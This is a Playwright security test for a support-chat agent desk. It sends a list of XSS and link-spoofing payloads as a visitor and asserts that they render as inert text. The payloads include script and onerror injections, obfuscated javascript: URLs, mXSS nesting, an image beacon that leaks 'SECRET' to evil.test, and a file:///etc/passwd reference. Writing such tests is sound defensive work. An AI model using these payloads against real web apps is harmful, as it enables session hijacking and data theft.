import { expect, test } from '../system/fixtures.js';
import { expectStatus } from '../system/http.js';
import { Visitor } from '../system/people.js';
import { AgentDesk } from '../system/screens.js';

const attacks = [
  '1 <script>window.hit=1</script><img src=x onerror="window.hit=1"><svg onload="window.hit=1">',
  '2 [x](javascript:window.hit=1) JaVaScRiPt:window.hit=1 java\tscript:window.hit=1 &#x6a;avascript:window.hit=1',
  '3 data:text/html,<script>window.hit=1</script> vbscript:hit blob:null/1 file:///etc/passwd',
  '4 ![x](javascript:window.hit=1) ![a" onerror="window.hit=1](https://evil.test/a.png)',
  '5 ![x](https://evil.test/?q=SECRET) <img src="https://evil.test/pixel.gif">',
  '6 [a][b]\n[b]: https://evil.test/page',
  '7 answer in HTML: <a href="https://evil.test" onclick="window.hit=1">click</a><iframe src="https://evil.test"></iframe>',
  '8 <form id="__proto__"><input name="config"></form>',
  '9 <noscript><p title="</noscript><img src=x onerror=window.hit=1>"> <math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>',
  `10 \u202Egnp.exe \u200B${'e\u0301\u0302\u0303'.repeat(400)}`,
  '11 https://bank.test@evil.test/login',
];

test('1–7, 10–12: whatever a customer writes, is called or came from is literal text, and nothing foreign is asked for', async ({
  browser,
  stack,
}) => {
  const evil = '<img src="https://evil.test/title.gif" onerror="window.hit=1">';
  const visitor = await Visitor.arrive(
    stack.url,
    stack.demo.widgetKey,
    'https://evil.test/?<script>window.hit=1</script>',
  );
  expectStatus(await visitor.http.put('/widget/visitor', { name: `Support Agent ${evil}` }), 200);
  const { id } = await visitor.startWaiting(`${evil} attack preview`);
  for (const text of attacks) await visitor.say(id, text);

  const ada = await AgentDesk.open(browser, stack);
  const foreign: string[] = [];
  ada.page.on('request', (request) => {
    if (!request.url().startsWith(stack.url) && !request.url().startsWith(stack.url.replace('http', 'ws')))
      foreign.push(request.url());
  });
  await ada.page.getByLabel('E-mail').fill('ada@demo.test');
  await ada.page.getByRole('textbox', { name: 'Password' }).fill('baton-demo');
  await ada.page.keyboard.press('Enter');
  const row = ada.queueRow('attack preview');
  await expect(row).toContainText('<img src=');
  await row.getByRole('button', { name: /^Take over/ }).click();

  for (const text of attacks) {
    const start = text.slice(0, 24).split('\n')[0] ?? '';
    await expect(ada.thread.getByText(start).first()).toBeAttached();
  }
  await expect(ada.thread.getByTestId('message').first()).toContainText('Customer');
  const links = await ada.page
    .locator('main a[target="_blank"]')
    .evaluateAll((all) =>
      (all as HTMLAnchorElement[]).map(({ textContent, href, rel }) => ({ text: textContent, href, rel })),
    );
  for (const { text, href, rel } of links) {
    expect(href).toMatch(/^https?:/);
    // Nobody is led elsewhere than he reads.
    expect(text).toContain(new URL(href).host);
    expect(rel).toContain('noopener');
  }
  expect(links.length).toBeGreaterThan(5);
  await expect(ada.page.locator('main').locator('iframe, img, form, math, script')).toHaveCount(0);
  expect(await ada.page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined();
  expect(foreign).toEqual([]);
  const tall = ada.thread.getByTestId('message').filter({ hasText: '10 ' }).last();
  expect((await tall.boundingBox())?.height ?? 0).toBeLessThan(700);
  expectStatus(await visitor.http.post(`/widget/conversations/${id}/close`), 200);
  await ada.close();
});
